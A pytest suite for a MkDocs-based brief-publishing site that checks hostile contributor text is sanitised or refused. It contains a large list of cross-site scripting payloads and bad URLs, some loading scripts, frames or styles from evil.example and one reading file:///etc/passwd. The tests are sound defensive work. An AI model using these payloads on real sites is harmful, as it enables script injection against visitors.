"""Hostile contributor text never reaches a built page as markup or script (SPEC §6).

One site carries every attack: one brief per payload (the payload in every field of the
brief, each copy with its own marker) and one actor file per payload (the payload in every
actor field). It is built once with the real `mkdocs build`; every page is then parsed and
held against rules a browser would care about. A rule broken by an element or attribute that
carries an attack's marker fails that attack's test, so a failure names payload and field.
"""

from __future__ import annotations

import json
import posixpath
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import extruct
import pytest
import yaml
from bs4 import BeautifulSoup, Tag
from bs4.element import NavigableString

from briefsite.build import check_site
from briefsite.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, ALLOWED_URL_SCHEMES, LINK_REL
from briefsite.urls import is_outside_link
from tests.conftest import Site

# The token MARK is replaced by a marker unique to one payload in one field.
PAYLOADS: dict[str, str] = {
    "img-onerror": '<img src=x onerror=alert("MARK")>',
    "svg-onload": '<svg onload=alert("MARK")>',
    "svg-script": '<svg><script>alert("MARK")</script></svg>',
    "svg-xlink": "<svg><a xlink:href=\"javascript:alert('MARK')\"><text>x</text></a></svg>",
    "details-ontoggle": "<details open ontoggle=alert('MARK')>x</details>",
    "a-javascript": "<a href=\"javascript:alert('MARK')\">x</a>",
    "a-javascript-entities": "<a href=\"&#106;ava&#x09;script:alert('MARK')\">x</a>",
    "a-data": "<a href=\"data:text/html,&lt;script&gt;alert('MARK')&lt;/script&gt;\">x</a>",
    "md-link-javascript": "[x](javascript:alert(MARK))",
    "md-link-javascript-quoted": "[x](javascript:alert('MARK'))",
    "md-link-mixed-case": "[x](JaVaScRiPt:alert(MARK))",
    "md-link-entity": "[x](&#106;avascript:alert(MARK))",
    "md-link-angle": "[x](<javascript:alert(MARK)>)",
    "md-link-vbscript": "[x](vbscript:msgbox(MARK))",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK)",
    "md-image-javascript": "![x](javascript:alert(MARK))",
    "md-image-title-breakout": '![x](https://example.org/MARK.png "a\\" onerror=\\"alert(1)")',
    "md-reference-link": "[x][MARK]\n\n[MARK]: javascript:alert(MARK)",
    "md-autolink": "<javascript:alert(MARK)>",
    "md-attr-list": "[x](https://example.org/MARK){: onclick=\"alert('MARK')\" }",
    "md-heading-attr-list": "## MARK {: onmouseover=\"alert('MARK')\" #__config }",
    "script": '<script>alert("MARK")</script>',
    "script-src-uppercase": "<SCRIPT SRC=https://evil.example/MARK.js></SCRIPT>",
    "break-attribute": '"><script>alert("MARK")</script>',
    "break-title": '</title><script>alert("MARK")</script>',
    "break-raw-text": '--></textarea></style></script><img src=x onerror=alert("MARK")>',
    "iframe": '<iframe src="https://evil.example/MARK"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"&lt;script&gt;alert('MARK')&lt;/script&gt;\"></iframe>",
    "object": '<object data="https://evil.example/MARK.swf"></object>',
    "embed": '<embed src="https://evil.example/MARK.swf">',
    "style": '<style>body{background:url("https://evil.example/MARK")}</style>',
    "style-attribute": '<p style="background:url(https://evil.example/MARK)">x</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/MARK">',
    "base": '<base href="https://evil.example/MARK/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/MARK.css">',
    "form": (
        '<form action="https://evil.example/MARK"><input name=q>'
        "<button formaction=\"javascript:alert('MARK')\">go</button></form>"
    ),
    "math-mxss": '<math><mtext><table><mglyph><style><img src=x onerror=alert("MARK")>',
    "noscript-mxss": "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    "comment-breakout": "<!--<img src=\"--><img src=x onerror=alert('MARK')>-->",
    "cdata": '<![CDATA[<script>alert("MARK")</script>]]>',
    "template": '<template><img src=x onerror=alert("MARK")></template>',
    "video-source": "<video><source onerror=\"alert('MARK')\"></video>",
    "entity-encoded-script": '&lt;script&gt;alert("MARK")&lt;/script&gt;',
    "dom-clobbering": '<a id="__config" name="__md_scope" class="md-search">MARK</a>',
    "markdown-stash-placeholder": "\x02wzxhzdk:0\x03 \x02klzzwxh:0\x03 MARK",
    "front-matter-breakout": "x---\n---\ntitle: <script>alert('MARK')</script>\n---",
    "md-link-scheme-then-relative": "[x](http:../../404.html#MARK)",
    "md-link-one-slash": "[x](https:/search/MARK)",
    "md-link-backslash-host": "[x](https://evil.example\\@example.org/MARK)",
    "md-link-relative": "[x](../MARK/)",
    "md-link-fragment": "[x](#MARK)",
    "lang-title-dir": '<p lang="MARK" title="MARK" dir="rtl">x</p>',
    "noncharacter-front-matter": "\ufffe [x](javascript:alert(MARK)){: onmouseover=alert(MARK) }",
    "right-to-left-override": "\u202eMARK txet",
    # Links in prose, to a target that exists (`anchor`, an actor id), so that they render.
    "prose-link-text-html": '[[anchor|<img src=x onerror=alert("MARK")>]]',
    "prose-link-text-breakout": "[[anchor|\"'><script>alert('MARK')</script>]]",
    "prose-link-text-javascript": "[[anchor|javascript:alert(MARK)]]",
    "prose-link-in-markdown-link": "[MARK]([[anchor]]) [[anchor]](javascript:alert(MARK))",
    "prose-link-in-raw-html": '<a href="[[anchor]]" onclick="alert(\'MARK\')">x</a>',
    "prose-link-nested": "[[[[anchor|MARK]]|x]] [[anchor|[MARK]]]",
    "prose-link-newline": "[[anchor|MARK\n<script>alert(1)</script>]]",
    "prose-link-unbalanced": "[[anchor|MARK" + "[[" * 100,
}

BRIEF_FIELDS = (
    "title",
    "summary",
    "publisher",
    "author",
    "actor-name",
    "role",
    "quote",
    "quote-context",
    "tag",
    "body",
)
ACTOR_FIELDS = ("name", "alias", "description", "profile", "relation")
FIELDS = (*BRIEF_FIELDS, *ACTOR_FIELDS)
MARKDOWN_FIELDS = frozenset({"summary", "body", "profile"})
"""Every other field is displayed only: its text must show literally, never be read."""

MAX_TAG_LENGTH = 60
ANCHOR = "anchor"
"""A clean registered actor every hostile actor is affiliated with."""


def marker(payload: str, field: str) -> str:
    """Letters and digits only, all of one length: no marker contains another."""
    return f"mk{list(PAYLOADS).index(payload):02d}x{FIELDS.index(field):02d}"


def attack(payload: str, field: str) -> str:
    return PAYLOADS[payload].replace("MARK", marker(payload, field))


def applies(payload: str, field: str) -> bool:
    return field != "tag" or len(attack(payload, field)) <= MAX_TAG_LENGTH


ATTACKS = [
    pytest.param(payload, field, id=f"{payload}-in-{field}")
    for payload in PAYLOADS
    for field in FIELDS
    if applies(payload, field)
]


def brief_page(payload: str) -> str:
    return f"briefs/hostile-{payload}/index.html"


def actor_page(payload: str) -> str:
    return f"actors/hostile-actor-{payload}/index.html"


def primary_page(payload: str, field: str) -> str:
    """The page where a field is shown as itself (an incoming relation: on the other side)."""
    if field in BRIEF_FIELDS:
        return brief_page(payload)
    return f"actors/{ANCHOR}/index.html" if field == "relation" else actor_page(payload)


# --- writing the site -------------------------------------------------------------------


def front_matter(data: dict[str, object], body: str = "") -> str:
    return "---\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + "---\n" + body


def hostile_brief(payload: str) -> str:
    def value(field: str) -> str:
        return attack(payload, field)

    speaker = value("actor-name")
    return front_matter(
        {
            "title": value("title"),
            "date": "2024-02-09",
            "source": {
                "url": "https://example.org/a",
                "publisher": value("publisher"),
                "author": value("author"),
            },
            "summary": value("summary"),
            "actors": [{"name": speaker, "role": value("role")}],
            "quotes": [{"by": speaker, "text": value("quote"), "context": value("quote-context")}],
            # Every brief shares "plain", so each has related briefs, as the clean one does.
            "tags": [value("tag"), "plain"] if applies(payload, "tag") else ["plain"],
        },
        value("body") + "\n",
    )


def hostile_actor(payload: str) -> str:
    def value(field: str) -> str:
        return attack(payload, field)

    return front_matter(
        {
            "name": value("name"),
            "type": "armed group",
            "aliases": [value("alias")],
            "description": value("description"),
            "affiliations": [{"actor": ANCHOR, "relation": value("relation")}],
        },
        value("profile") + "\n",
    )


CLEAN_BRIEF = front_matter(
    {
        "title": "A clean brief",
        "date": "2024-02-09",
        "source": {"url": "https://example.org/a", "publisher": "Paper", "author": "Jane Doe"},
        "summary": "Something *happened* to [[Anchor Group]], see [the report](https://example.org/r).",
        "actors": [{"name": "Clean Speaker", "role": "spokesperson"}],
        "quotes": [{"by": "Clean Speaker", "text": "We said it.", "context": "statement"}],
        "tags": ["plain"],
    },
    "Some **notes**.\n",
)
CLEAN_ACTOR = front_matter(
    {
        "name": "Clean Group",
        "type": "armed group",
        "aliases": ["Clean Group Alias"],
        "description": "A group.",
        "affiliations": [{"actor": ANCHOR, "relation": "member of"}],
    },
    "A *profile*.\n",
)

THEME_IDS = ("__config", "__drawer", "__search")
"""Ids Material's scripts look up; plain titles and names spelled like them."""
CLOBBER_BRIEF = front_matter(
    {
        "title": THEME_IDS[0],
        "date": "2024-02-09",
        "source": {"url": "https://example.org/a", "publisher": "Paper", "author": THEME_IDS[2]},
        "summary": "Something.",
        "actors": [{"name": THEME_IDS[1], "role": THEME_IDS[2]}],
        "quotes": [{"by": THEME_IDS[1], "text": THEME_IDS[0], "context": THEME_IDS[2]}],
        "tags": [THEME_IDS[0], "plain"],
    },
    "Notes.\n",
)
CLOBBER_ACTOR = front_matter(
    {
        "name": THEME_IDS[2],
        "type": "armed group",
        "aliases": [THEME_IDS[0]],
        "description": THEME_IDS[1],
        "affiliations": [{"actor": ANCHOR, "relation": THEME_IDS[0]}],
    },
    "Profile.\n",
)


# --- rules for a built page -------------------------------------------------------------

STRUCTURAL_TAGS = frozenset(
    {"h1", "h2", "p", "ul", "li", "a", "blockquote", "strong", "em", "div"}
    | {"table", "thead", "tbody", "tr", "th", "td", "code"}
)
"""What the default templates themselves write around contributor text."""
_NUMBER = re.compile(r"\d+")
_CHART_ATTRIBUTES = {
    "svg": {"xmlns", "role", "aria-labelledby", "viewbox", "width", "height", "class"},
    "title": {"id"},
    "rect": {"x", "y", "width", "height", "data-month", "data-briefs"},
    "text": {"x", "y"},
}
"""The elements of the actor page's timeline chart (`chart.py`), only in its own `div`, and
their attributes: fixed words and numbers only (checked by `chart_attribute`)."""


def in_chart(element: Tag) -> bool:
    chart = element if element.name == "svg" else element.find_parent("svg")
    return (
        element.name in _CHART_ATTRIBUTES
        and chart is not None
        and chart.parent is not None
        and chart.parent.get("class") == "briefsite-timeline"
    )


def chart_attribute(tag: str, name: str, value: str) -> bool:
    fixed = {
        "xmlns": "http://www.w3.org/2000/svg",
        "role": "img",
        "aria-labelledby": "timeline-title",
        "id": "timeline-title",
        "class": "briefsite-chart",
    }
    if name not in _CHART_ATTRIBUTES.get(tag, ()):
        return False
    if name in fixed:
        return value == fixed[name]
    if name == "viewbox":
        return re.fullmatch(r"0 0 \d+ \d+", value) is not None
    if name == "data-month":
        return re.fullmatch(r"\d{4}-\d{2}", value) is not None
    return _NUMBER.fullmatch(value) is not None


ARTICLE_TAGS = ALLOWED_TAGS | STRUCTURAL_TAGS
HEADINGS = frozenset({"h1", "h2", "h3", "h4", "h5", "h6"})
FORBIDDEN_ANYWHERE = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "math", "template"}
    | {"portal", "noscript", "xmp", "plaintext", "noembed", "noframes", "marquee", "param"}
)
"""Elements Material never writes and nothing may smuggle in."""
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset"}
    | {"codebase", "classid", "longdesc", "lowsrc", "dynsrc", "manifest", "ping", "usemap"}
    | {"xlink:href", "xml:base", "icon", "archive", "profile", "itemtype"}
)
"""Attributes a browser reads as a URL (text such as a description may say "data:")."""
SAFE_SCHEMES = frozenset(ALLOWED_URL_SCHEMES)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
_URL_NOISE = re.compile(r"[\t\n\r]")


def normalised_url(value: str) -> str:
    """What a browser reads a URL as: tabs/newlines dropped, C0 controls and spaces trimmed."""
    return _URL_NOISE.sub("", value).strip("".join(map(chr, range(0x21)))).lower()


def url_scheme(value: str) -> str | None:
    match = _SCHEME.match(normalised_url(value))
    return match.group(1) if match else None


@dataclass(frozen=True)
class Violation:
    page: str
    rule: str
    snippet: str

    def __str__(self) -> str:
        return f"{self.page}: {self.rule}: {self.snippet[:300]}"


def parse(text: str) -> BeautifulSoup:
    # Attributes as written: `rel` and `class` stay strings rather than lists.
    return BeautifulSoup(text, "html.parser", multi_valued_attributes=None)


def root_of(page: str) -> str:
    if page == "404.html":
        return "/"  # served from any path, so the theme links it from the site root
    depth = page.count("/")
    return "/".join([".."] * depth) if depth else "."


def theme_script_key(script: Tag, page: str) -> str:
    """A script as the theme writes it on every page, page-relative paths made site-relative."""
    src = script.get("src")
    if src is not None:
        path = posixpath.normpath(posixpath.join(posixpath.dirname(page), str(src)))
        return "src:" + path.lstrip("/")
    text = script.string or ""
    root = root_of(page)
    if root != ".":
        text = text.replace(f'"{root}"', '"."').replace(f'"{root.rstrip("/")}/', '"')
    return f"inline:{script.get('type')}:{text}"


def is_json_ld(script: Tag) -> bool:
    return str(script.get("type", "")).lower() == "application/ld+json"


def chrome(soup: BeautifulSoup) -> list[Tag]:
    """Every element outside the article, in document order."""
    article = soup.find("article")
    inside = {id(element) for element in article.find_all(True)} if article else set()
    return [
        element
        for element in soup.find_all(True)
        if id(element) not in inside
        and element is not article
        # A summary that cleans down to nothing leaves no description to write.
        and not (element.name == "meta" and element.get("name") == "description")
        and not (element.name == "meta" and element.get("property") == "og:description")
    ]


def chrome_difference(soup: BeautifulSoup, baseline: BeautifulSoup) -> str | None:
    """The first element outside the article whose name or attribute names differ."""
    ours, theirs = chrome(soup), chrome(baseline)
    for index, element in enumerate(ours):
        other = theirs[index] if index < len(theirs) else None
        if other is None or (element.name, sorted(element.attrs)) != (
            other.name,
            sorted(other.attrs),
        ):
            return str(element)
    return None if len(ours) == len(theirs) else "(elements missing)"


_TITLE = re.compile(r"<title>(.*?)</title", re.IGNORECASE | re.DOTALL)


def raw_title(html_text: str) -> str:
    """What a browser takes as the title: everything up to the first `</title`, raw (RCDATA)."""
    match = _TITLE.search(html_text)
    assert match is not None, "every page has a <title>"
    return match.group(1)


def page_violations(
    page: str, html_text: str, theme_scripts: set[str], baseline: BeautifulSoup | None
) -> Iterator[Violation]:
    """Every rule the page breaks; `html_text` as written, since <title> is read raw."""
    soup = parse(html_text)
    yield from document_violations(page, soup)
    yield from _script_violations(page, soup, theme_scripts)
    article = soup.find("article")
    if article is None:
        yield Violation(page, "no article", "")
    else:
        yield from article_violations(page, article)
    if "<" in raw_title(html_text):
        yield Violation(page, "markup in <title>", raw_title(html_text))
    difference = chrome_difference(soup, baseline) if baseline is not None else None
    if difference is not None:
        yield Violation(page, "theme chrome differs from a clean page's", difference)


def document_violations(page: str, soup: BeautifulSoup) -> Iterator[Violation]:
    """Script hooks, forbidden elements and reused ids anywhere in the document."""
    ids: dict[str, Tag] = {}
    for element in soup.find_all(True):
        snippet = str(element)
        if "id" in element.attrs:
            # The theme finds its elements by id: the first in the page wins (DOM clobbering).
            first = ids.setdefault(str(element["id"]), element)
            if first is not element:
                yield Violation(page, f"id {element['id']!r} used twice", f"{first} / {snippet}")
        if element.name in FORBIDDEN_ANYWHERE:
            yield Violation(page, f"<{element.name}> element", snippet)
        if element.name == "meta" and "http-equiv" in element.attrs:
            yield Violation(page, "<meta http-equiv>", snippet)
        if element.name in ("style", "link") and element.find_parent("head") is None:
            yield Violation(page, f"<{element.name}> outside <head>", snippet)
        for name, value in element.attrs.items():
            if name.lower().startswith("on"):
                yield Violation(page, f"event handler attribute {name}", snippet)
            if name.lower() in ("srcdoc", "formaction", "xlink:href"):
                yield Violation(page, f"{name} attribute", snippet)
            dangerous = normalised_url(str(value)).startswith(DANGEROUS_SCHEMES)
            if name.lower() in URL_ATTRIBUTES and dangerous:
                yield Violation(page, f"dangerous URL in {name}", snippet)


def _script_violations(page: str, soup: BeautifulSoup, theme: set[str]) -> Iterator[Violation]:
    for script in soup.find_all("script"):
        if is_json_ld(script):
            text = script.string or ""
            # A `<` could close the script element early; JSON can always spell it \u003c.
            if "<" in text:
                yield Violation(page, "'<' inside JSON-LD", str(script))
            try:
                json.loads(text)
            except ValueError:
                yield Violation(page, "JSON-LD is not JSON", str(script))
        elif theme_script_key(script, page) not in theme:
            yield Violation(page, "script not written by the theme", str(script))


def article_violations(page: str, article: Tag) -> Iterator[Violation]:
    """Elements, attributes and links under `article` beyond the allow-list and templates."""
    for element in article.find_all(True):
        snippet = str(element)
        if element.name not in ARTICLE_TAGS and not in_chart(element):
            yield Violation(page, f"<{element.name}> outside the allow-list", snippet)
        for name, value in element.attrs.items():
            if in_chart(element) and chart_attribute(element.name, name, str(value)):
                continue
            if not allowed_attribute(element.name, name, str(value)):
                yield Violation(page, f"attribute {name} on <{element.name}>", snippet)
        for name in ("href", "src", "cite"):
            scheme = url_scheme(str(element.get(name, "")))
            if scheme is not None and scheme not in SAFE_SCHEMES:
                yield Violation(page, f"{scheme}: URL in {name}", snippet)
    # A contributor's link leaves the site in full, is a prose link, or is no link at all.
    for region in article.select('div[class^="briefsite-"]'):
        for link in region.find_all("a"):
            href = str(link.get("href", ""))
            if not (is_outside_link(href) or PROSE_LINK.fullmatch(href)):
                yield Violation(page, "contributor link that does not go out in full", str(link))


PROSE_LINK = re.compile(r"\./|(?:\.\./)+(?:(?:actors|briefs)/)?[a-z0-9-]+/")
"""Where `[[...]]` leads: a relative link to a brief or actor page, and nothing else."""


def allowed_attribute(tag: str, name: str, value: str) -> bool:
    if name in ALLOWED_ATTRIBUTES.get(tag, ()):
        return True
    structural = {
        ("a", "rel"): value == LINK_REL,
        ("a", "class"): value == "headerlink",  # the heading's permalink
        ("div", "class"): re.fullmatch(r"briefsite-[a-z]+", value) is not None,
        # Under each quote, the verdict of `briefsite verify` (partials/quote_check.md.j2).
        ("span", "class"): value == "briefsite-check",
        ("span", "data-check"): value in {"verified", "close", "absent", "unverified"},
        ("span", "aria-hidden"): value == "true",
        # A quote's fixed id on a brief page, where its search result leads.
        ("p", "id"): re.fullmatch(r"quote-[1-9][0-9]*", value) is not None,
    }
    if tag in HEADINGS:
        # Ids for anchors; the templates keep link lists out of the search index.
        return name == "id" or (name == "data-search-exclude" and not value)
    return structural.get((tag, name), False)


# --- the built site ---------------------------------------------------------------------


@dataclass
class Built:
    site: Site
    pages: dict[str, str]
    """Every built HTML page, by path relative to the site folder."""
    soups: dict[str, BeautifulSoup]
    violations: list[Violation]
    scripts: list[tuple[str, str]]
    """(page, script element as written) for every script element of every page but JSON-LD,
    which carries contributor text as JSON strings (checked by `_script_violations`)."""

    def soup(self, page: str) -> BeautifulSoup:
        return self.soups[page]


def baseline_for(page: str, clean: dict[str, BeautifulSoup]) -> BeautifulSoup | None:
    if page.startswith("briefs/"):
        return clean["brief"]
    if page.startswith(("actors/hostile-actor-", "actors/clean-actor/", "actors/clobber-actor/")):
        return clean["actor"]
    if page.startswith("actors/") and page.count("/") == 2 and ANCHOR not in page:
        return clean["implicit"]
    return None


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    site = Site(tmp_path_factory.mktemp("hostile") / "site-root")
    for payload in PAYLOADS:
        site.write(f"briefs/hostile-{payload}.md", hostile_brief(payload))
        site.write(f"briefs/actors/hostile-actor-{payload}.md", hostile_actor(payload))
    site.write(f"briefs/actors/{ANCHOR}.md", front_matter({"name": "Anchor Group"}))
    site.write("briefs/clean.md", CLEAN_BRIEF)
    site.write("briefs/actors/clean-actor.md", CLEAN_ACTOR)
    site.write("briefs/clobber.md", CLOBBER_BRIEF)
    site.write("briefs/actors/clobber-actor.md", CLOBBER_ACTOR)
    result = site.mkdocs_build()
    assert result.returncode == 0, result.stderr
    pages = site.built_pages()
    soups = {page: parse(text) for page, text in pages.items()}
    clean = {
        "brief": soups["briefs/clean/index.html"],
        "actor": soups["actors/clean-actor/index.html"],
        "implicit": soups["actors/clean-speaker/index.html"],
    }
    theme = {
        theme_script_key(script, "briefs/clean/index.html")
        for script in clean["brief"].find_all("script")
    }
    violations = [
        violation
        for page, text in pages.items()
        for violation in page_violations(page, text, theme, baseline_for(page, clean))
    ]
    scripts = [
        (page, str(script))
        for page, soup in soups.items()
        for script in soup("script")
        if not is_json_ld(script)
    ]
    return Built(site, pages, soups, violations, scripts)


# Never shown: control characters, noncharacters and text-direction controls are taken out
# of contributor text as it is read (with a warning).
_NONCHARACTERS = "".join(
    f"{chr(plane + 0xFFFE)}{chr(plane + 0xFFFF)}" for plane in range(0, 0x110000, 0x10000)
)
_CONTROL = re.compile(
    f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef{_NONCHARACTERS}\u202a-\u202e\u2066-\u2069]"
)


def visible(text: str) -> str:
    """Text as a reader sees it: whitespace folded, control characters (never shown) dropped."""
    return " ".join(_CONTROL.sub("", " ".join(text.split())).split())


# --- tests --------------------------------------------------------------------------------


def test_every_hostile_file_builds_with_warnings_not_errors(built: Built) -> None:
    problems = check_site(built.site.root, built.site.root / "briefs").problems
    assert not [str(problem) for problem in problems if problem.is_error]
    warned = {problem.path for problem in problems}
    assert "briefs/hostile-script.md" in warned
    assert "briefs/actors/hostile-actor-iframe.md" in warned
    for payload in PAYLOADS:
        assert brief_page(payload) in built.pages
        assert actor_page(payload) in built.pages


def test_the_rules_accept_the_clean_pages(built: Built) -> None:
    # Without this, a rule that rejects everything would make every attack test vacuous...
    clean = [v for v in built.violations if v.page.startswith(("briefs/clean", "actors/clean"))]
    assert clean == []
    # ...and the clean brief really shows its Markdown and links.
    article = built.soup("briefs/clean/index.html").find("article")
    assert article is not None
    assert article.find("em", string="happened") is not None
    assert article.find("a", href="https://example.org/r") is not None
    assert article.find("a", href="../../actors/anchor/", string="Anchor Group") is not None


@pytest.mark.parametrize(("payload", "field"), ATTACKS)
def test_attack_reaches_no_page_as_markup(built: Built, payload: str, field: str) -> None:
    mark = marker(payload, field)
    assert [str(v) for v in built.violations if mark in v.snippet] == []
    assert [page for page, script in built.scripts if mark in script] == []


@pytest.mark.parametrize(
    ("payload", "field"),
    [param for param in ATTACKS if param.values[1] not in MARKDOWN_FIELDS],
)
def test_displayed_field_shows_its_text_literally(built: Built, payload: str, field: str) -> None:
    article = built.soup(primary_page(payload, field)).find("article")
    assert article is not None
    assert visible(attack(payload, field)) in visible(article.get_text())


@pytest.mark.parametrize(
    "payload", [name for name in PAYLOADS if name.startswith("prose-link-text")]
)
@pytest.mark.parametrize(("field", "region"), [("summary", "summary"), ("body", "body")])
def test_prose_link_text_is_shown_as_typed(
    built: Built, payload: str, field: str, region: str
) -> None:
    summary = built.soup(brief_page(payload)).find("div", class_=f"briefsite-{region}")
    link = summary.find("a", href="../../actors/anchor/")
    text = attack(payload, field).removeprefix("[[anchor|").removesuffix("]]")
    assert link.get_text() == text


@pytest.mark.parametrize(
    "page",
    ["briefs/clobber/index.html", "actors/clobber-actor/index.html", "actors/drawer/index.html"],
)
def test_titles_spelled_like_theme_ids_leave_the_theme_its_elements(
    built: Built, page: str
) -> None:
    # The theme's scripts take the first element with each id; a heading must not be it.
    clean = built.soup("briefs/clean/index.html")
    soup = built.soup(page)
    article = soup.find("article")
    assert article is not None
    assert THEME_IDS[0] in visible(article.get_text())
    for theme_id in THEME_IDS:
        ours, theirs = soup.find(id=theme_id), clean.find(id=theme_id)
        assert ours is not None
        assert theirs is not None
        assert (ours.name, ours.find_parent("article")) == (theirs.name, None)


def test_no_page_breaks_any_rule(built: Built) -> None:
    # Catches what carries no marker, e.g. an element split off from its attack.
    assert [str(violation) for violation in built.violations] == []


def test_every_brief_page_has_exactly_the_clean_pages_scripts(built: Built) -> None:
    clean = built.soup("briefs/clean/index.html").find_all("script")
    for payload in PAYLOADS:
        scripts = built.soup(brief_page(payload)).find_all("script")
        assert len(scripts) == len(clean), payload


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_title_element_holds_the_title_as_text(built: Built, payload: str) -> None:
    text = built.pages[brief_page(payload)]
    raw = raw_title(text)
    assert "<" not in raw
    shown = parse(text).title
    assert shown is not None
    assert visible(shown.get_text()) == f"{visible(attack(payload, 'title'))} - test site"


def test_search_index_carries_no_live_markup(built: Built) -> None:
    # Material's search shows titles and text as HTML; only its own tags may be in them.
    index = json.loads((built.site.root / "site" / "search" / "search_index.json").read_text())
    kept = {"p", "code", "pre", "li", "ol", "ul", "sub", "sup"}
    found = []
    for document in index["docs"]:
        for key in ("title", "text"):
            for element in parse(document[key]).find_all(True):
                if element.name not in kept or element.attrs:
                    found.append(f"{document['location']} {key}: {element}")
    assert found == []
    markers = {marker(payload, "title") for payload in PAYLOADS}
    titles = " ".join(document["title"] for document in index["docs"])
    assert all(mark in titles for mark in markers), "every hostile brief is searchable"


def structured(built: Built, page: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The page's JSON-LD and Open Graph, as crawlers' tooling reads them."""
    found = extruct.extract(built.pages[page], syntaxes=["json-ld", "opengraph"], uniform=True)
    (json_ld,) = found["json-ld"]
    (open_graph,) = found["opengraph"]
    return json_ld, open_graph


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_json_ld_and_previews_give_brief_fields_back_as_text(built: Built, payload: str) -> None:
    data, preview = structured(built, brief_page(payload))
    source = data["isBasedOn"]
    (actor,) = data["mentions"]
    (quote,) = data["hasPart"]
    shown = {
        "title": [data["headline"], preview["og:title"]],
        "publisher": [source["publisher"]["name"]],
        "author": [source["author"]["name"]],
        "actor-name": [actor["name"], quote["creator"]["name"]],
        "quote": [quote["text"]],
        "quote-context": [quote["description"]],
    }
    for field, values in shown.items():
        assert [visible(value) for value in values] == [visible(attack(payload, field))] * len(
            values
        ), field
    assert quote["isBasedOn"] == source["url"] == "https://example.org/a"


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_json_ld_and_previews_give_actor_fields_back_as_text(built: Built, payload: str) -> None:
    data, preview = structured(built, actor_page(payload))
    assert data["@type"] == "Organization"
    assert visible(data["name"]) == visible(preview["og:title"]) == visible(attack(payload, "name"))
    assert [visible(alias) for alias in data["alternateName"]] == [
        visible(attack(payload, "alias"))
    ]
    # The description is the page's own (Markdown reduced to text), or none when empty.
    described = built.soup(actor_page(payload)).find("meta", attrs={"name": "description"})
    expected = described["content"] if described else None
    assert data.get("description") == preview.get("og:description") == expected


def text_nodes_with(soup: BeautifulSoup, mark: str) -> Iterator[NavigableString]:
    for string in soup.find_all(string=True):
        if mark in string:
            yield string


def test_markers_outside_the_article_are_only_text(built: Built) -> None:
    # Titles reach the header and <title>; there they must be text in the theme's elements.
    allowed_parents = {"title", "span", "div", "a", "label", "h1", "li", "nav"}
    for payload in PAYLOADS:
        mark = marker(payload, "title")
        soup = built.soup(brief_page(payload))
        article = soup.find("article")
        for string in text_nodes_with(soup, mark):
            if article is not None and string.find_parent("article") is article:
                continue
            if string.parent is not None and is_json_ld(string.parent):
                continue  # data, held to its own rules (test_json_ld_*)
            assert string.parent is not None
            assert string.parent.name in allowed_parents, (payload, str(string.parent))


# --- URLs are refused, not cleaned --------------------------------------------------------

BAD_URLS = {
    "javascript": "javascript:alert(1)",
    "javascript-mixed-case": "JaVaScRiPt:alert(1)",
    "javascript-leading-space": "  javascript:alert(1)",
    "javascript-tab": "java\tscript:alert(1)",
    "javascript-control-char": "\x01javascript:alert(1)",
    "javascript-after-https": "https:javascript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "file:///etc/passwd",
    "scheme-relative": "//evil.example/x",
    "quote-breakout": 'https://example.org/"><script>alert(1)</script>',
    "space-attribute": "https://example.org/x onmouseover=alert(1)",
}
URL_KEYS = {
    "source": "source.url",  # a bare URL string stands for `source.url`
    "source.url": "source.url",
    "source.archive_url": "source.archive_url",
    "actor.links": "links[0]",
}
URL_PLACES = tuple(URL_KEYS)


def url_file(place: str, url: str) -> tuple[str, str, int]:
    """(path, text, line of the URL) for a file carrying `url` in `place`."""
    quoted = json.dumps(url)  # a JSON string is a YAML double-quoted scalar
    if place == "actor.links":
        return "actors/bad-url", f"---\nname: Somebody\nlinks:\n  - {quoted}\n---\n", 4
    source = {
        "source": f"source: {quoted}",
        "source.url": f"source:\n  url: {quoted}",
        "source.archive_url": f"source:\n  url: https://example.org/a\n  archive_url: {quoted}",
    }[place]
    head = "---\ntitle: A brief\ndate: 2024-02-09\n"
    tail = "\nsummary: Something.\nactors:\n  - Someone\n---\n"
    return "bad-url", head + source + tail, 4 + source.count("\n")


URL_CASES = [
    pytest.param(place, name, id=f"{name}-in-{place}") for place in URL_PLACES for name in BAD_URLS
]


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, bool]:
    """One site with every bad URL in its own file, built once: (stderr, any page written)."""
    site = Site(tmp_path_factory.mktemp("urls") / "site-root")
    for place in URL_PLACES:
        for name, url in BAD_URLS.items():
            stem, text, _ = url_file(place, url)
            site.write(f"briefs/{stem}-{name}-{place.replace('.', '-')}.md", text)
    result = site.mkdocs_build()
    assert result.returncode != 0
    written = any((site.root / "site").rglob("*.html"))
    return result.stderr, written


@pytest.mark.parametrize(("place", "name"), URL_CASES)
def test_bad_url_is_refused_with_file_and_line(
    refused: tuple[str, bool], place: str, name: str
) -> None:
    stderr, written = refused
    stem, _, line = url_file(place, BAD_URLS[name])
    path = f"briefs/{stem}-{name}-{place.replace('.', '-')}.md"
    key = URL_KEYS[place]
    assert f"{path}:{line}:" in stderr
    assert re.search(rf"^\s*{re.escape(path)}:{line}:\d+: error: '{re.escape(key)}' ", stderr, re.M)
    assert not written, "a refused build writes no page"
